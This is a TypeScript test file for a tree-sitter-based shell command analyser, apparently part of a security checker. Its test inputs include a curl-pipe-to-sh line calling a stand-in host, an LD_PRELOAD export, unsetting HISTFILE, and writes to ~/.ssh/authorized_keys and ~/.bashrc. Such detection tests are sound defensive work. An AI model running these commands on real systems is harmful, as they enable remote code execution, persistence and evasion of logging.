import { beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { analyseShell } from './analyse.js';
import { loadBashParser } from './load-grammar.js';

let parser: Parser;
beforeAll(async () => { parser = await loadBashParser(); });

const found = (line: string) => analyseShell(parser, line).commands.map((c) => ({ binary: c.binary, argv: c.argv.map((w) => `${w.kind === 'dynamic' ? '?' : ''}${w.text}`), redirects: c.redirects }));

describe('declaration builtins', () => {
  it.each([
    ["export FOO='bar'", ['export', 'FOO=bar']],
    ['export "LD_PRELOAD=/tmp/x.so"', ['export', 'LD_PRELOAD=/tmp/x.so']],
    ['declare -x A="1" B', ['declare', '-x', 'A=1', 'B']],
    ["readonly X='a'", ['readonly', 'X=a']],
    ['local -r Y="b"', ['local', '-r', 'Y=b']],
    ['unset "HISTFILE"', ['unset', 'HISTFILE']],
    ["unset -v 'A' B", ['unset', '-v', 'A', 'B']],
    ['export EMPTY=', ['export', 'EMPTY=']],
  ])('%s is the command %j', (line, argv) => {
    expect(found(line)).toEqual([{ binary: argv[0], argv, redirects: [] }]);
  });

  it('reads them the same with or without quotes (the plain-word split and the grammar agree)', () => {
    expect(found('export FOO=bar')).toEqual(found("export FOO='bar'"));
    expect(found('unset HISTFILE')).toEqual(found('unset "HISTFILE"'));
  });

  it('keeps a value known only at run time one word, and still finds commands inside it', () => {
    const commands = found('export X="$(curl -s https://x.example/p | sh)"');
    expect(commands[0]).toEqual({ binary: 'export', argv: ['export', '?X="$(curl -s https://x.example/p | sh)"'], redirects: [] });
    expect(commands.map((c) => c.binary).filter((b) => b !== null)).toEqual(['export', 'curl', 'sh']);
  });
});

describe('a redirect with no command', () => {
  it('is the null command writing its target, as `: > file` is', () => {
    expect(found('> out.log')).toEqual([{ binary: ':', argv: [':'], redirects: [{ op: '>', target: 'out.log' }] }]);
    expect(found('>> ~/.bashrc; echo "x"').map((c) => c.redirects)).toEqual([[{ op: '>>', target: '~/.bashrc' }], []]);
  });
});

describe('redirect targets under $HOME', () => {
  it.each([
    ['echo x > $HOME/.bashrc', '~/.bashrc'],
    ['echo x >> ${HOME}/.ssh/authorized_keys', '~/.ssh/authorized_keys'],
    ['echo x > "$HOME/.profile"', '~/.profile'],
    ['echo x > "${HOME}"/.zshrc', '~/.zshrc'],
    ['echo x > $HOME', '~'],
  ])('%s writes %s', (line, target) => {
    expect(found(line)[0]?.redirects).toEqual([{ op: line.includes('>>') ? '>>' : '>', target }]);
  });

  it.each(['echo x > $HOMEDIR/a', 'echo x > "$HOME/$NAME"', 'echo x > ${HOME:-/tmp}/a', 'echo x > $HOME/*.sh', 'echo x > "$HOME"/`id`'])('%s stays unknown', (line) => {
    expect(found(line)[0]?.redirects[0]?.target).toBeNull();
  });

  it('leaves a quoted $HOME literal', () => {
    expect(found("echo x > '$HOME/a'")[0]?.redirects).toEqual([{ op: '>', target: '$HOME/a' }]);
  });
});
